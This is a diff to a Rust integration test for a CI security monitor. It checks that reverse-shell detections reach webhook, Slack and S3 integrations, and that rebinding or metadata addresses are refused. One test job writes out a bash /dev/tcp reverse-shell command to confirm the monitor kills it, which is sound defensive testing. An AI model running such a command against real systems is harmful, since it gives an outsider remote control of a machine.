@@ -11,14 +11,17 @@ use jsonwebtoken::{Algorithm, EncodingKey, Header};
 use portcullis_tests::gate::step;
 use portcullis_tests::patience::wait_for;
 use portcullis_tests::server::http::Response;
+use portcullis_tests::server::object_store::ObjectStore;
 use portcullis_tests::world::{MonitorOptions, Process};
 use portcullis_tests::{Canary, Job, JobOutcome, JobResult, StepKind, World};
 use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa};
 use serde_json::{Value, json};
 use std::fs;
+use std::net::TcpListener;
 use std::path::{Path, PathBuf};
 use std::process::Stdio;
 use std::sync::{Arc, Mutex};
+use std::thread;
 
 /// Where the server listens: a machine of the world's internet.
 const ADDRESS: &str = "198.51.100.200";
@@ -63,7 +66,8 @@ impl<'a> Store<'a> {
             "listen = \"{ADDRESS}:8440\"\npublic-url = \"{URL}\"\nadmin-token-file = \"{at}/token\"\nca-file = \"{at}/authorities.pem\"\n\
              [database]\nurl = \"sqlite:{at}/store.db\"\n\
              [tls]\ncertificate-file = \"{at}/certificate.pem\"\nkey-file = \"{at}/key.pem\"\n\
-             [github]\nissuer = \"https://{ISSUER}\"\n"
+             [github]\nissuer = \"https://{ISSUER}\"\n\
+             [notifications]\nallowed-networks = [\"{ADDRESS}/32\"]\nallow-http = true\nretry-seconds = [1, 1]\n"
         );
         fs::write(directory.join("store.toml"), configuration)?;
         Ok(Self { world, program: world.install_program("portcullis")?, directory, process: None })
@@ -205,6 +209,111 @@ fn job(run_id: u64, canary: &Canary) -> Result<Job> {
     Ok(job)
 }
 
+/// Makes an integration, and has the store tell it that this is a test.
+fn integrate(store: &Store<'_>, name: &str, target: &Value, selection: &Value) -> Result<()> {
+    let file = store.directory.join("integration.json");
+    let body = json!({ "name": name, "target": target, "selection": selection });
+    fs::write(&file, body.to_string())?;
+    store.command(&["integration", "create", &file.display().to_string()])?;
+    let tested = store.command(&["integration", "test", name])?;
+    ensure!(tested.contains("works"), "{tested}");
+    Ok(())
+}
+
+/// What people's receivers got at a host, as JSON, in order; tests left out.
+fn told(world: &World, host: &str) -> Vec<Value> {
+    let requests = world.web().requests();
+    requests
+        .iter()
+        .filter(|request| request.host == host)
+        .filter_map(|request| serde_json::from_slice::<Value>(&request.body).ok())
+        .filter(|body| !body.to_string().contains("this is a test"))
+        .collect()
+}
+
+/// People are told of a blocked call and of a job that was killed; where a name leads is looked at each time.
+fn people_are_told(store: &Store<'_>, objects: &ObjectStore<'_>, run: u64) -> Result<()> {
+    let world = store.world;
+    let lab = store.directory.join("lab.yaml");
+    fs::write(
+        &lab,
+        "name: lab\negress-policy: audit\nlockdown-mode: {enabled: true, detections: [Reverse-Shell]}\n",
+    )?;
+    store.command(&["policy", "apply", &lab.display().to_string()])?;
+    store.command(&["attach", "lab", "--repository", "octo/lab"])?;
+    let peer = world.internet().run(|| TcpListener::bind("0.0.0.0:4445"))??;
+    thread::spawn(move || drop(peer.incoming().collect::<Vec<_>>()));
+    let script = format!("(bash -i >& /dev/tcp/{ADDRESS}/4445 0>&1) & sleep 5; echo went-on");
+    let mut job = Job::script(&script).repository("octo/lab");
+    job.context.run_id = run;
+    let result = world.runner(0).run(&job)?;
+    ensure!(result.outcome == JobOutcome::Failure, "{}", result.log());
+
+    let hook = wait_for(&format!("the webhook; {}", store.log()), || {
+        told(world, "hooks.test").into_iter().find(|body| body["type"] == "detection.created")
+    })?;
+    let data = &hook["data"];
+    for (key, value) in
+        [("detection", "Reverse-Shell"), ("repository", "octo/lab"), ("cluster", "prod-linux")]
+    {
+        ensure!(data[key] == value, "{key}: {hook}");
+    }
+    ensure!(data["policy"]["name"] == "lab" && data["run_id"] == run, "{hook}");
+    ensure!(
+        data["is_lockdown"] == true && data["evidence"].to_string().contains(ADDRESS),
+        "{hook}"
+    );
+    ensure!(data["process"]["exe"].to_string().contains("bash"), "{hook}");
+    ensure!(data["link"] == format!("{URL}/runs/{run}-1"), "{hook}");
+    let calls = told(world, "hooks.test").into_iter().find(|body| body["type"] == "calls.blocked");
+    let calls = calls.context("the main job's blocked call was not told")?;
+    let listed = calls["data"]["calls"].as_array().context("no calls")?;
+    let is_told = listed.iter().any(|call| {
+        call["endpoint"].to_string().contains(":4444")
+            && call["process"].to_string().contains("python")
+            && call["verdict"] == "blocked"
+    });
+    ensure!(is_told, "{calls}");
+    ensure!(calls["data"]["repository"] == "octo/hello", "{calls}");
+
+    let message = wait_for("Slack", || told(world, "slack.test").pop())?;
+    let title = "Reverse-Shell in job build of octo/lab; the job was killed";
+    ensure!(message["blocks"][0]["text"]["text"] == title, "{message}");
+    let object = wait_for("the bucket", || {
+        let names = objects.names().ok()?;
+        let texts = names.iter().filter(|name| name.starts_with("pc/notifications/"));
+        texts.filter_map(|name| objects.text(name).ok()).find(|text| text.contains("octo/lab"))
+    })?;
+    ensure!(serde_json::from_str::<Value>(&object)?["data"] == *data, "{object}");
+    let detections = store.json(&["detections", "--repository", "octo/lab"])?;
+    ensure!(detections[0]["id"] == data["id"], "{detections}");
+    Ok(())
+}
+
+/// An integration whose name leads elsewhere later, and those that lead where nobody may go.
+fn addresses_are_looked_at(store: &Store<'_>) -> Result<()> {
+    let dns = store.world.dns();
+    let target = |host: &str| json!({ "kind": "slack", "url": format!("https://{host}/x") });
+    dns.addresses_with_ttl("rebind.test", 0, &["198.51.100.61"])?;
+    integrate(store, "rebinding", &target("rebind.test"), &json!({ "detections": false }))?;
+    dns.addresses_with_ttl("rebind.test", 0, &["127.0.0.1"])?;
+    let error = store.command(&["integration", "test", "rebinding"]).err();
+    let error =
+        format!("{:#}", error.context("a name that leads to the store's own host was asked")?);
+    ensure!(error.contains("127.0.0.1 is not on the internet (loopback)"), "{error}");
+    for (host, usage) in [
+        ("metadata.special.test", "cloud-metadata"),
+        ("link-local.special.test", "link-local"),
+        ("private.special.test", "private-use"),
+        ("mapped.special.test", "IPv4-mapped"),
+    ] {
+        let error = integrate(store, host, &target(host), &json!({ "detections": false })).err();
+        let error = format!("{:#}", error.with_context(|| format!("{host} was asked"))?);
+        ensure!(error.contains(usage) || error.contains("is not on the internet"), "{error}");
+    }
+    Ok(())
+}
+
 fn first_line(result: &JobResult) -> Result<String> {
     let hook = result.step_of_kind(StepKind::StartedHook).context("no started hook")?;
     let line = hook.log.lines().find(|line| line.starts_with("Portcullis: "));
@@ -224,6 +333,24 @@ fn the_main_job_runs_by_the_server_and_without_it() -> Result<()> {
     store.command(&["attach", "hello-build", "--repository", "octo/hello"])?;
     store.enrol()?;
     world.install_hooks()?;
+    for host in ["hooks.test", "slack.test"] {
+        world.dns().addresses(host, &["198.51.100.60"])?;
+        world.web().route(host, "/", |_| Response::ok("ok"));
+    }
+    world.dns().addresses("rebind.test", &["198.51.100.61"])?;
+    world.web().route("rebind.test", "/", |_| Response::ok("ok"));
+    let objects = ObjectStore::start(&world, ADDRESS, "evidence")?;
+    let key = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
+    let hook = json!({ "kind": "webhook", "url": "https://hooks.test/portcullis", "secret": key });
+    let slack = json!({ "kind": "slack", "url": "https://slack.test/services/T/B/x" });
+    let bucket = json!({
+        "kind": "s3", "bucket": "evidence", "region": "us-east-1", "endpoint": objects.url(), "prefix": "pc",
+        "access_key_id": "store", "secret_access_key": "key",
+    });
+    integrate(&store, "hook", &hook, &json!({ "blocked_calls": true }))?;
+    integrate(&store, "slack", &slack, &json!({ "lockdown_only": true }))?;
+    integrate(&store, "bucket", &bucket, &json!({}))?;
+    addresses_are_looked_at(&store)?;
     let mut monitor = world.monitor(MonitorOptions::default())?;
     let canary = Canary::generate()?;
 
@@ -260,6 +387,9 @@ fn the_main_job_runs_by_the_server_and_without_it() -> Result<()> {
     monitor.wait_until_idle()?;
     assert!(result.log().contains("contradicts the job's environment"), "{}", result.log());
     world.attacker().assert_untouched(&canary)?;
+
+    people_are_told(&store, &objects, 21)?;
+    monitor.wait_until_idle()?;
 
     // Without the server, also over a restart of the monitor: the last known good policy, and nothing is lost.
     store.stop()?;
